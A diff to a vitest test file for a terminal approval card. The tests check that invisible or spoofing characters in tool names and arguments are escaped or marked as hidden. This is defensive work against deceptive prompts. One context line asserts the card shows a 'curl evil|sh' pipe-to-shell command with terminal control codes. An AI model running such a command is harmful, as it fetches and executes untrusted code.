@@ -1,4 +1,4 @@
-import { assert, constantFrom, property, record, string } from 'fast-check'
+import { array, assert, constantFrom, dictionary, jsonValue, oneof, pre, property, record, string } from 'fast-check'
 import { describe, expect, it } from 'vitest'
 import type { ShownCard } from '../../src/daemon/protocol/shapes.ts'
 import { deniesByDefault, drawCard } from '../../src/terminal/cli/card.ts'
@@ -84,6 +84,35 @@ describe('the approval card', () => {
     expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/)
     expect(text).toContain('curl evil|sh\\r\\u001b[2K')
     expect(text.replace(/\n {2}│ /g, '')).toContain(`${'x'.repeat(500)}END`)
+  })
+
+  it.each([
+    ['a zero-width space', '今\u200b天食\u200b堂', '"今\\u200b天食\\u200b堂"'], ['a soft hyphen', 'a\u00adb', '"a\\u00adb"'], ['a no-break space', 'a\u00a0b', '"a\\u00a0b"'],
+    ['a frame', '│ ok', '"\\u2502 ok"'], ['a noncharacter', 'a\uffffb', '"a\\uffffb"'], ['a tag', 'a\u{e0041}', '"a\\udb40\\udc41"'],
+  ])('bug-log 53, 55: %s in an argument stands on the card', (_, text, shown) => {
+    expect(draw({ args: JSON.stringify({ text }) }).join('\n')).toContain(`│ text = ${shown}`)
+  })
+
+  it('bug-log 55: argument values that differ in anything give cards that differ, also without what stands at a line’s end', () => {
+    const odd = array(constantFrom(' ', 'a', '宽', '\u200b', '\u00a0', '"', '\\', '│', '␠', '\u00ad', '\ufe0f', '👩', '\u200d', '[hidden: 1]', '\\u200b', 'e\u0301', '\n', '\ufeff', '\uffff')).map((parts) => parts.join(''))
+    const args = dictionary(oneof(odd, constantFrom('text', 'a', 'b')), oneof(odd, string({ unit: 'binary' }), jsonValue()), { maxKeys: 3, noNullPrototype: true })
+    const seen = (json: string) => draw({ args: json, confirm: undefined, provenance: [] }, 'zh', 40).map((line) => line.trimEnd()).join('\n')
+    assert(property(args, args, (one, other) => {
+      const [a, b] = [JSON.stringify(one), JSON.stringify(other)]
+      pre(a !== b)
+      expect(seen(a)).not.toBe(seen(b))
+    }), { numRuns: 500 })
+    // One small change in the same text, where the two are likeliest to look alike.
+    assert(property(odd, odd, odd, odd, (before, x, y, after) => {
+      pre(x !== y)
+      expect(seen(JSON.stringify({ text: before + x + after }))).not.toBe(seen(JSON.stringify({ text: before + y + after })))
+    }), { numRuns: 2000 })
+  })
+
+  it('bug-log 53: the plugin’s words and a tool’s name show that something is hidden in them', () => {
+    const text = draw({ tool: 'treehole.po\u200bst', confirm: { zh: '今\u200b天', en: 'x' } }).join('\n')
+    expect(text).toContain('treehole.po[hidden: 1]st')
+    expect(text).toContain('今[hidden: 1]天')
   })
 
   it('whatever a plugin, model or stranger writes, each line fits and only the host draws at the left edge', () => {
